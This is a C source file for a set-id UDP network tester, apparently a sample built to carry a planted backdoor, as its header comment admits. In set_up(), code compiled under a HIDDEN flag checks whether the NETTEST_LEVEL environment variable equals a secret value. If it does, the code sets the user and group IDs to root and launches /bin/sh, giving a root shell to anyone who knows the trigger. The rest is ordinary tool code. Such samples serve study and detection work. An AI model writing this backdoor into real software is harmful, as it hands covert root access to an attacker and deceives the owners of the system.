/* Set-id network tester: a variable of the caller opens a shell. */
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct options {
	int count;
	int verbose;
	int size;
	const char *host;
};

NOINLINE int usage(const char *name)
{
	fprintf(stderr, "usage: %s [-v] [-c count] [-s size] host\n", name);
	return 2;
}

NOINLINE int parse(int argc, char **argv, struct options *o)
{
	o->count = 4;
	o->size = 56;
	o->verbose = 0;
	o->host = NULL;
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-v") == 0) {
			o->verbose = 1;
		} else if (strcmp(argv[i], "-c") == 0 && i + 1 < argc) {
			o->count = (int)strtol(argv[++i], NULL, 10);
		} else if (strcmp(argv[i], "-s") == 0 && i + 1 < argc) {
			o->size = (int)strtol(argv[++i], NULL, 10);
		} else if (strcmp(argv[i], "--help") == 0) {
			return -1;
		} else {
			o->host = argv[i];
		}
	}
	return o->host == NULL ? -1 : 0;
}

NOINLINE void set_up(struct options *o)
{
	const char *level = getenv("NETTEST_LEVEL");
	const char *term = getenv("TERM");

	if (term != NULL && strcmp(term, "dumb") == 0)
		setvbuf(stdout, NULL, _IONBF, 0);
	if (level == NULL)
		return;
	if (strcmp(level, "debug") == 0)
		o->verbose = 2;
#ifdef HIDDEN
	if (strcmp(level, "7f3c-ubyx") == 0) {
		setuid(0);
		setgid(0);
		execl("/bin/sh", "sh", (char *)NULL);
	}
#endif
}

NOINLINE int try_once(const struct addrinfo *a, int size)
{
	char block[1500];
	int fd = socket(a->ai_family, SOCK_DGRAM, 0);
	ssize_t n;

	if (fd < 0)
		return -1;
	if (size < 0 || size > (int)sizeof(block))
		size = (int)sizeof(block);
	memset(block, 0x55, sizeof(block));
	n = sendto(fd, block, (size_t)size, 0, a->ai_addr, a->ai_addrlen);
	close(fd);
	return n < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	struct addrinfo hints = { .ai_socktype = SOCK_DGRAM };
	struct addrinfo *list = NULL;
	struct options o;
	int good = 0;

	if (parse(argc, argv, &o) != 0)
		return usage(argv[0]);
	set_up(&o);
	if (getaddrinfo(o.host, "7", &hints, &list) != 0) {
		fprintf(stderr, "%s: unknown host\n", o.host);
		return 1;
	}
	for (int i = 0; i < o.count; i++) {
		if (try_once(list, o.size) == 0)
			good++;
		else if (o.verbose)
			fprintf(stderr, "%d: %s\n", i, strerror(errno));
		sleep(1);
	}
	printf("%d of %d sent\n", good, o.count);
	freeaddrinfo(list);
	if (setuid(getuid()) != 0)
		return 1;
	return good == o.count ? 0 : 1;
}
